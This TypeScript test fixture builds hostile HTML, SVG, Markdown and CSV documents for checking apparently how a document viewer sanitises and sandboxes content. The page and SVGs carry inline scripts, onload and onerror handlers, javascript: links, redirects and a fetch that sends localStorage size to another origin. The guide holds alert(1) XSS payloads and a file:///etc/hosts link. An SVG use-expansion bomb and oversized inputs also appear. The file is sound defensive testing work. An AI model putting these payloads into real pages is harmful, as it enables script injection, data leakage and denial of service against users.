// The documents of K29 to K31, as the cases write them.

import { gzipSync } from 'node:zlib'
import { drawPng } from '../src/testing/servers/png.ts'
import type { RawDocument } from '../src/testing/servers/rawDocuments.ts'

/** K30: scripts, handlers, forms, links, a style sheet, a redirection; `elsewhere` is another origin. */
export function hostilePage(elsewhere: string): string {
  return `<!doctype html><html><head><title>Visit us</title>
<style>body{font:16px/1.5 serif;margin:24px;color:#222} h1{color:#0f6f66} td{border:1px solid #ccc;padding:4px 10px}
.hero{background:url(${elsewhere}/hero.png)} @import url(${elsewhere}/more.css);
@font-face{font-family:x;src:url(${elsewhere}/x.woff2)}</style>
<link rel=stylesheet href=${elsewhere}/a.css><link rel=prefetch href=${elsewhere}/next>
<meta http-equiv=refresh content="0;url=${elsewhere}/refresh"><base href=${elsewhere}/base/></head>
<body onload="document.title='marked'" class=hero>
<script>parent.document.title='marked';fetch('${elsewhere}/?'+localStorage.length)</script>
<h1>Opening hours</h1><p>The harbour museum is open <b>every day</b>.</p>
<table><tr><td>Summer</td><td>9 to 18</td></tr><tr><td>Winter</td><td>10 to 16</td></tr></table>
<img src=${elsewhere}/p.png onerror="top.location='${elsewhere}/top'">
<form action=${elsewhere}/form><input name=q><button>Send</button></form>
<p><a id=plain href=${elsewhere}/plain>Our shop</a> <a target=_top href="javascript:parent.document.title='marked'">Script</a>
<a id=self target=_self href=${elsewhere}/self>Stay here</a> <a href="works/1">A work</a></p>
<iframe src=${elsewhere}/frame></iframe><video src=${elsewhere}/v.mp4 poster=${elsewhere}/v.png></video>
<svg width=20 height=20 onload="parent.document.title='marked'"><image href=${elsewhere}/s.png /></svg>
</body></html>`
}

export function hostileSvg(elsewhere: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="160" viewBox="0 0 240 160" onload="top.document.title='marked'">
<style>@import url(${elsewhere}/svg.css); .a{fill:#0f6f66} .b{fill:url(${elsewhere}/p#x)}</style>
<script>top.document.title='marked';fetch('${elsewhere}/svg')</script>
<rect width="240" height="160" fill="#e4f1ee"/><path class="a" d="M0 120 Q60 80 120 120 T240 120 V160 H0Z"/>
<a xlink:href="${elsewhere}/link"><circle cx="180" cy="40" r="18" fill="#e3b05c"/></a></svg>`
}

/** The same, with what no browser's cost can be known of before it is drawn. */
export function foreignSvg(elsewhere: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 160"><rect width="240" height="160" fill="#eee"/>
<image href="${elsewhere}/in.png" width="50" height="50"/><foreignObject width="90" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><script>top.document.title='marked'</script><img src="${elsewhere}/fo.png"/></body></foreignObject></svg>`
}

/** As drawing programs write it: an arrow, a reference for a hyphen, a label that is a page, and the word for what is costly. */
export const diagram = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" width="240" height="160" viewBox="0 0 240 160"><title>intake&#45;&gt;filter</title>
<defs><marker id="end" viewBox="0 0 10 10" refX="9" refY="5" markerWidth="6" markerHeight="6" orient="auto"><path d="M0 0L10 5L0 10z"/></marker></defs>
<rect x="10" y="50" width="80" height="50" fill="#e4f1ee" stroke="#0f6f66"/><text x="30" y="80" font-size="14">filter</text>
<path d="M90 75L150 75" stroke="#0f6f66" fill="none" marker-end="url(#end)"/>
<foreignObject x="155" y="60" width="70" height="30"><div xmlns="http://www.w3.org/1999/xhtml">tank</div></foreignObject></svg>`

export const guideUri = 't://docs/guide/index.md'

export function guide(elsewhere: string): string {
  return `---
title: Guide
---
# The harbour guide

A *short* guide with **bold** words, \`code\`, ~~mistakes~~ &amp; entities: &copy; 2026.

![t](${elsewhere}/p.png?d=1) and ![u](//c.example/p.png) and ![a](./img/a.png)

![by reference][pic]

[pic]: ${elsewhere}/ref.png

## Links

[b](../b.md#part), [other](t://other/resource), [shop](${elsewhere}/shop), [mail](mailto:desk@museum.example),
[c](javascript:alert(1)), [d](file:///etc/hosts), [to the table](#a-table), [nowhere](#missing).

[![badge](${elsewhere}/badge.png)](${elsewhere}/ci)

## Raw HTML

<img src=x onerror=alert(1)>

Inline <b onclick="alert(1)">bold</b> and <script>alert(1)</script>.

## A table

| Room | Works | Open |
| :--- | ----: | :--: |
| One | 24 | yes |
| Two | 3 | no |

- [x] hang the chart
- [ ] clean the lamp
  1. carefully
  2. twice

> The sea is never the same.

\`\`\`js
const depth = 12.4 // metres
\`\`\`

Text with a note[^1].

[^1]: The note.
`
}

/** More columns than a screen is wide, with a word that is wider than one. */
export function wideTable(): string {
  const row = (cell: (column: number) => string) => `| ${Array.from({ length: 12 }, (_, i) => cell(i)).join(' | ')} |\n`
  const works = row((i) => (i === 1 ? 'Lantern room of the northern lighthouse' : `Harbourmaster ${i}`))
  return row((i) => `Department ${i}`) + row(() => '---') + works + row((i) => (i === 0 ? 'a0b1c2d3'.repeat(30) : '7'))
}

const picture = drawPng(64, 48)

export function richDocuments(elsewhere: string): readonly RawDocument[] {
  return [
    {
      uri: 't://pages/visit.html',
      name: 'visit',
      title: 'Visit us',
      mimeType: 'text/html',
      text: hostilePage(elsewhere),
    },
    {
      uri: 't://pages/blob.html',
      name: 'visit-blob',
      title: 'Visit us, as a blob',
      mimeType: 'text/html; charset=utf-8',
      blob: Buffer.from(hostilePage(elsewhere)).toString('base64'),
    },
    {
      uri: 't://pages/large.html',
      name: 'large-page',
      title: 'A large page',
      mimeType: 'text/html',
      text: `<h1>Large</h1>${'<p>One more line of it.</p>\n'.repeat(50_000)}`,
    },
    {
      uri: 't://pages/multiplying.html',
      name: 'multiplying-page',
      title: 'A page that multiplies',
      mimeType: 'text/html',
      text: `<h1>Many</h1><svg>${['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].map(usesTenTimes).join('')}</svg>`,
    },
    { uri: 't://art/chart.svg', name: 'chart', title: 'Chart', mimeType: 'image/svg+xml', text: hostileSvg(elsewhere) },
    {
      uri: 't://art/blob.svg',
      name: 'chart-blob',
      title: 'Chart, as a blob',
      mimeType: 'image/svg+xml',
      blob: Buffer.from(hostileSvg(elsewhere)).toString('base64'),
    },
    {
      uri: 't://art/foreign.svg',
      name: 'foreign',
      title: 'Foreign parts',
      mimeType: 'image/svg+xml',
      text: foreignSvg(elsewhere),
    },
    { uri: 't://art/diagram.svg', name: 'diagram', title: 'Diagram', mimeType: 'image/svg+xml', text: diagram },
    {
      uri: 't://art/png.svg',
      name: 'png-svg',
      title: 'PNG called SVG',
      mimeType: 'image/svg+xml',
      blob: picture.toString('base64'),
    },
    {
      uri: 't://art/diagram.svgz',
      name: 'svgz',
      title: 'Packed diagram',
      mimeType: 'image/svg+xml',
      blob: gzipSync(diagram).toString('base64'),
    },
    { uri: guideUri, name: 'guide', title: 'Guide', mimeType: 'text/markdown', text: guide(elsewhere) },
    { uri: 't://docs/wide.md', name: 'wide', title: 'Wide table', mimeType: 'text/markdown', text: wideTable() },
    {
      uri: 't://docs/guide/img/a.png',
      name: 'a',
      title: 'Picture of the guide',
      mimeType: 'image/png',
      blob: picture.toString('base64'),
    },
    {
      uri: 't://docs/b.md',
      name: 'b',
      title: 'Second document',
      mimeType: 'text/markdown',
      text: '# The second document',
    },
    {
      uri: 't://other/resource',
      name: 'other',
      title: 'Other',
      mimeType: 'text/plain',
      text: 'This is the other resource.',
    },
    {
      uri: 't://docs/long.md',
      name: 'long',
      title: 'Long document',
      mimeType: 'text/markdown',
      text: `## A chapter\n\n${`A paragraph with *emphasis*. ${'Words and more words. '.repeat(80)}\n\n`.repeat(5)}`.repeat(
        230,
      ),
    },
    {
      uri: 't://docs/brackets.md',
      name: 'brackets',
      title: 'Brackets',
      mimeType: 'text/markdown',
      text: '['.repeat(100_000),
    },
    {
      uri: 't://docs/quotes.md',
      name: 'quotes',
      title: 'Quotes',
      mimeType: 'text/markdown',
      text: '>'.repeat(100_000),
    },
    { uri: 't://tables/odd.csv', name: 'odd', title: 'Odd table', mimeType: 'text/csv', text: oddTable },
    { uri: 't://tables/large.csv', name: 'large', title: 'Large table', mimeType: 'text/csv', text: largeTable() },
  ]
}

const oddTable = `name;room;"price, in euro";note
Astrolabe;3;1250.50;"two lines
in one cell"
Chart;12;9;=HYPERLINK("x")
Lamp;2;100;"say ""hello"""

Rope;1
Anchor;4;30;heavy;very
`

function largeTable(): string {
  const lines = ['id,name,depth,room']
  for (let row = 0; row < 100_000; row += 1)
    lines.push(`${row},"Work ${row}, on loan",${(row * 7919) % 1000}.5,room ${row % 9}`)
  return lines.join('\r\n')
}

/** A group that draws the one before it ten times: eight levels are a hundred million parts. */
function usesTenTimes(name: string, index: number): string {
  return `<g id="${name}">${`<use href="#${'abcdefgh'.charAt(index)}"/>`.repeat(10)}</g>`
}
